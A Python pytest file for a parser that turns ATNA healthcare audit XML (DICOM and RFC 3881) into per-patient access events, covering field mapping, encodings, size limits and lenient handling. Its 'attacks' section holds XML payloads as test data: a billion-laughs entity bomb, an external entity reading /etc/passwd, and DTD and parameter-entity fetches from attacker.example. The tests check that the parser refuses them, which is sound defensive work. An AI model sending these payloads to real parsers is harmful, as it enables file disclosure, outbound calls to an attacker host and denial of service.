"""ATNA audit messages (DICOM PS3.15 A.5 and RFC 3881 XML) ingest: both dialects become
valid access events, one per patient; hostile XML is refused, never expanded or fetched."""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import pytest

from careledger_core.event import decode_event, event_to_dict, validate_event
from producers.adapters import (
    ISSUE_CODES,
    IngestError,
    ParseResult,
    derived_event_id,
    parse_atna_xml,
    parse_dicom_audit_xml,
)

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "ingest" / "atna"
RECEIVED = "2026-01-05T08:00:00.000000Z"
DCM = "http://dicom.nema.org/resources/ontology/DCM"
BOM = b"\xef\xbb\xbf"
DECLARATION = b'<?xml version="1.0" encoding="UTF-8"?>'


def _bytes(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def _parse(data: bytes, **kwargs: int) -> ParseResult:
    return parse_dicom_audit_xml(data, received_at=RECEIVED, **kwargs)


def _codes(result: ParseResult) -> set[str]:
    return {i.code for i in result.issues}


def _assert_valid(result: ParseResult) -> None:
    for event in result.events:
        assert validate_event(event) == event
        assert decode_event(json.dumps(event_to_dict(event)).encode()) == event
        assert event.raw_ref is not None
        assert event.raw_ref.sha256 == hashlib.sha256(result.raw.data).hexdigest()
        assert event.raw_ref.format == result.raw.format
    assert {i.code for i in result.issues} <= ISSUE_CODES.keys()


XML_FIXTURES = sorted(p.name for p in FIXTURES.glob("*.xml"))


@pytest.mark.parametrize("name", XML_FIXTURES)
def test_atna_messages_of_both_dialects_become_valid_events(name: str) -> None:
    result = _parse(_bytes(name))
    _assert_valid(result)
    assert result.events
    dialect = "rfc3881-audit+xml" if name.startswith("rfc3881") else "dicom-audit+xml"
    assert result.raw.format == dialect
    assert "VERSION_MIXED" not in _codes(result)
    sha = hashlib.sha256(_bytes(name)).hexdigest()
    assert [e.event_id for e in result.events] == [
        derived_event_id(sha, i) for i in range(len(result.events))
    ]


def test_dicom_patient_record_maps_every_section() -> None:
    result = _parse(_bytes("dicom-patient-record.xml"))
    (e,) = result.events
    assert result.issues == ()
    assert (e.event_type.system, e.event_type.code, e.event_type.display) == (
        DCM,
        "110110",
        "Patient Record",
    )
    assert (e.action, e.outcome) == ("U", 0)
    # +02:00 converted to UTC, nanoseconds cut to microseconds
    assert e.occurred_at == e.recorded_at == "2024-03-11T21:30:05.123456Z"
    assert e.actor.id == "ADT_SENDER|WARD_7" and e.actor.roles == ("110153",)
    assert e.client is not None
    assert (e.client.address, e.client.address_type) == ("adt.example.org", "hostname")
    assert (e.source.system, e.source.site, e.source.type) == ("example-archive", "Radiology", 4)
    assert (e.patient.id, e.patient.system) == (
        "MRN-30417",
        "urn:oid:1.2.40.0.13.1.1.999.222.2222",
    )
    assert e.sensitivity is not None and e.sensitivity.confidentiality == "R"


def test_dicom_query_without_patient_keeps_the_query() -> None:
    result = _parse(_bytes("dicom-query.xml"))
    (e,) = result.events
    assert e.patient.id == "-" and _codes(result) == {"NO_PATIENT"}
    assert e.query is not None and e.query.startswith("L2FyYy9hZXRz")
    assert e.client is not None and (e.client.address, e.client.address_type) == (
        "10.20.30.41",
        "ip",
    )
    assert e.object is None


def test_rfc3881_pix_query_reads_the_legacy_dialect() -> None:
    result = _parse(_bytes("rfc3881-pix-query.xml"))
    (e,) = result.events
    assert (e.event_type.code, e.event_type.display) == ("110112", "Query")
    assert (e.event_subtype[0].system, e.event_subtype[0].code) == (
        "urn:ihe:event-type-code",
        "ITI-9",
    )
    assert (e.patient.id, e.patient.system) == (
        "4417",
        "urn:oid:1.3.6.1.4.1.21367.2005.13.20.1000",
    )
    assert e.correlation_id == "msg-20240311-0042"  # MSH-10, base64-decoded
    assert e.source.type == 9 and "SOURCE_TYPE_UNKNOWN" in _codes(result)


def test_login_with_two_requestors_takes_the_person_and_flags_the_quirks() -> None:
    for name in ("rfc3881-login.xml", "dicom-login.xml"):
        result = _parse(_bytes(name))
        (e,) = result.events
        assert e.actor.id == "j.rivera@clinic.example" and e.actor.is_requestor
        assert (e.event_type.code, e.event_subtype[0].code) == ("110114", "110122")
        assert e.patient.id == "-"
        # NetworkAccessPointTypeCode 1 (host name) with an IP address: the address decides
        assert e.client is not None and e.client.address_type == "ip"
        assert "NETWORK_TYPE_MISMATCH" in _codes(result)
        assert e.source.type == 1
        assert e.occurred_at == "2024-03-11T21:12:04.287000Z"
    assert "MISPLACED_VALUE" in _codes(_parse(_bytes("dicom-login.xml")))


def test_a_message_naming_four_patients_gives_four_events() -> None:
    result = _parse(_bytes("dicom-four-patients.xml"))
    _assert_valid(result)
    assert [e.patient.id for e in result.events] == ["PAT-1001", "PAT-1002", "PAT-1003", "PAT-1004"]
    assert {e.patient.system for e in result.events} == {"urn:oid:2.16.840.1.113883.19.5"}
    assert len({e.event_id for e in result.events}) == 4
    first = result.events[0]
    assert first.purpose_of_use == ("TREAT",)  # PurposeOfUse given by the v3-ActReason OID
    assert first.actor.id == "n.okafor" and first.actor.name == "Nkem Okafor"
    assert first.client is not None and first.client.address == "ws-4711.clinic.example"
    # the query may name the other patients: no patient's event copies it (issue 11);
    # the raw record keeps it whole
    assert all(e.query is None for e in result.events)
    assert b"<ParticipantObjectQuery>" in result.raw.data
    assert "QUERY_WITHHELD" in {i.code for i in result.issues}
    rest = {
        json.dumps({k: v for k, v in event_to_dict(e).items() if k not in ("patient", "event_id")})
        for e in result.events
    }
    assert len(rest) == 1


def test_the_alias_parse_atna_xml_is_the_same_parser() -> None:
    data = _bytes("dicom-query.xml")
    assert parse_atna_xml(data, received_at=RECEIVED) == _parse(data)


# ----------------------------------------------------------------------------- encodings
@pytest.mark.parametrize(
    ("prefix", "declaration"),
    [(b"", b""), (b"", DECLARATION), (BOM, b""), (BOM, DECLARATION), (b"\r\n ", DECLARATION)],
)
def test_bom_and_xml_declaration_variants_give_the_same_events(
    prefix: bytes, declaration: bytes
) -> None:
    body = _bytes("dicom-four-patients.xml").split(b"?>", 1)[1].lstrip()
    reference = _parse(DECLARATION + body)
    result = _parse(prefix + declaration + body)
    assert [event_to_dict(e) | {"event_id": 0, "raw_ref": 0} for e in result.events] == [
        event_to_dict(e) | {"event_id": 0, "raw_ref": 0} for e in reference.events
    ]
    assert result.raw.data == prefix + declaration + body
    assert result.raw.sha256 == hashlib.sha256(prefix + declaration + body).hexdigest()


def test_utf8_text_is_kept_and_a_foreign_declared_encoding_is_flagged() -> None:
    data = _bytes("dicom-four-patients.xml").replace(b"Nkem Okafor", "Nkém Økafor".encode())
    assert _parse(data).events[0].actor.name == "Nkém Økafor"
    latin = data.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"')
    result = _parse(latin)
    assert result.events[0].actor.name == "Nkém Økafor"  # read as UTF-8 regardless
    assert "XML_ENCODING_DECLARED" in _codes(result)


def test_bytes_that_are_not_utf8_are_refused() -> None:
    data = _bytes("dicom-four-patients.xml").replace(b"Nkem", b"Nk\xe9m")
    with pytest.raises(IngestError) as info:
        _parse(data)
    assert info.value.code == "NOT_UTF8"


def test_a_64_kib_message_is_accepted() -> None:
    data = _bytes("dicom-query.xml")
    padding = b"<!-- " + b"x" * (64 * 1024 - len(data) - 9) + b" -->"
    big = data.replace(b"<AuditMessage ", padding + b"\n<AuditMessage ", 1)
    assert len(big) >= 64 * 1024
    result = _parse(big, max_bytes=64 * 1024 + 1024)
    assert len(result.events) == 1
    # ... and so is a long query (base64 of 48 KiB) in a message over 64 KiB
    long_query = _bytes("dicom-query.xml").replace(
        b"L2FyYy9h", b"QUJD" * (12 * 1024) + b"L2FyYy9h", 1
    )
    assert len(long_query) > 48 * 1024
    assert _parse(long_query).events[0].query is not None


def test_over_the_bound_is_too_large() -> None:
    data = _bytes("dicom-query.xml") + b" " * (1024 * 1024)
    with pytest.raises(IngestError) as info:
        _parse(data)
    assert info.value.code == "TOO_LARGE"


# ----------------------------------------------------------------------------- attacks
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE AuditMessage [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<AuditMessage>
  <EventIdentification EventActionCode="R" EventDateTime="2024-03-11T10:00:00Z"
      EventOutcomeIndicator="0">
    <EventID csd-code="110110" codeSystemName="DCM" originalText="&lol9;"/>
  </EventIdentification>
</AuditMessage>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE AuditMessage [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<AuditMessage>
  <EventIdentification EventActionCode="R" EventDateTime="2024-03-11T10:00:00Z"
      EventOutcomeIndicator="0">
    <EventID csd-code="110110" codeSystemName="DCM" originalText="&xxe;"/>
  </EventIdentification>
  <ActiveParticipant UserID="&xxe;" UserIsRequestor="true"/>
</AuditMessage>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE AuditMessage SYSTEM "http://attacker.example/audit.dtd">
<AuditMessage/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE AuditMessage [
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
  %remote;
]>
<AuditMessage/>
"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_entity_expansion_and_external_references_are_refused(data: bytes) -> None:
    with pytest.raises(IngestError) as info:
        _parse(data)
    assert info.value.code in ("XML_FORBIDDEN", "NOT_XML")
    assert info.value.code == "XML_FORBIDDEN"  # refused for what it is
    assert "lol" not in info.value.message and "passwd" not in info.value.message
    assert info.value.sha256 == hashlib.sha256(data).hexdigest()


def test_an_undeclared_entity_reference_is_not_xml() -> None:
    data = _bytes("dicom-query.xml").replace(b'UserID="10.20.30.41"', b'UserID="&xxe;"')
    with pytest.raises(IngestError) as info:
        _parse(data)
    assert info.value.code == "NOT_XML"


@pytest.mark.parametrize(
    "data",
    [
        b"<AuditMessage>",
        b"<AuditMessage><EventIdentification></AuditMessage>",
        b"<?xml version='1.0'?>",
        b"not xml at all",
        b"<AuditMessage>\x00</AuditMessage>",
    ],
)
def test_malformed_xml_is_not_xml(data: bytes) -> None:
    with pytest.raises(IngestError) as info:
        _parse(data)
    assert info.value.code == "NOT_XML"


def test_another_root_element_is_not_an_audit_record() -> None:
    with pytest.raises(IngestError) as info:
        _parse(b"<IHEYr4><Import/></IHEYr4>")
    assert info.value.code == "NOT_AN_AUDIT_RECORD"


# ----------------------------------------------------------------------------- leniency
def test_a_valid_but_non_conformant_message_is_accepted_with_issues() -> None:
    data = b"""<auditmessage xmlns="urn:example:ns">
  <EventIdentification eventactioncode="read" EventDateTime="2024-03-11"
      EventOutcomeIndicator="success">
    <EventID code="ITI-9" codeSystemName="IHE Transactions" displayName="PIX Query"/>
    <EventTypeCode code="110112" codeSystemName="DCM" displayName="Query"/>
    <PurposeOfUse csd-code="care" codeSystemName="urn:example:purpose"/>
  </EventIdentification>
  <ActiveParticipant UserID="" UserIsRequestor="1" NetworkAccessPointID="ws-12"/>
  <ActiveParticipant UserID="dr.who" UserIsRequestor="maybe"/>
  <ParticipantObjectIdentification ParticipantObjectID="77^^^&amp;1.2.3&amp;ISO"
      ParticipantObjectTypeCode="1">
    <ParticipantObjectIDTypeCode csd-code="2" codeSystemName="RFC-3881"/>
  </ParticipantObjectIdentification>
  <ParticipantObjectIdentification ParticipantObjectID="" ParticipantObjectTypeCode="1"
      ParticipantObjectTypeCodeRole="1"/>
</auditmessage>"""
    result = _parse(data)
    _assert_valid(result)
    (e,) = result.events
    assert {
        "ACTION_UNKNOWN",
        "DATE_ONLY_TIME",
        "OUTCOME_TEXT",
        "CODES_SWAPPED",
        "PURPOSE_NOT_ACTREASON",
        "EMPTY_VALUE",
        "WRONG_TYPE",
        "NO_REQUESTOR",
        "NO_SOURCE",
        "SOURCE_TYPE_UNKNOWN",
        "PATIENT_ROLE_MISSING",
        "VERSION_MIXED",
    } <= _codes(result)
    assert (e.action, e.outcome) == ("R", 0)
    assert e.occurred_at == "2024-03-11T00:00:00.000000Z"
    assert (e.event_type.code, e.event_subtype[0].code) == ("110112", "ITI-9")
    assert e.actor.id == "dr.who" and e.actor.is_requestor is False
    assert (e.source.system, e.source.type) == ("-", 9)
    assert (e.patient.id, e.patient.system) == ("77", "urn:oid:1.2.3")
    assert any(i.path == "AuditMessage/ActiveParticipant[1]@UserID" for i in result.issues)


def test_missing_event_time_falls_back_to_received_at() -> None:
    data = re.sub(rb'EventDateTime="[^"]*"', b"", _bytes("dicom-query.xml"))
    result = _parse(data)
    assert result.events[0].occurred_at == RECEIVED
    assert "MISSING_EVENT_TIME" in _codes(result)


def test_an_empty_audit_message_still_gives_one_flagged_event() -> None:
    result = _parse(b"<AuditMessage/>")
    _assert_valid(result)
    (e,) = result.events
    assert (e.actor.id, e.source.system, e.patient.id) == ("-", "-", "-")
    assert e.event_type.code == "unknown"
    assert {"NO_ACTOR", "NO_SOURCE", "NO_PATIENT", "MISSING_EVENT_TYPE"} <= _codes(result)
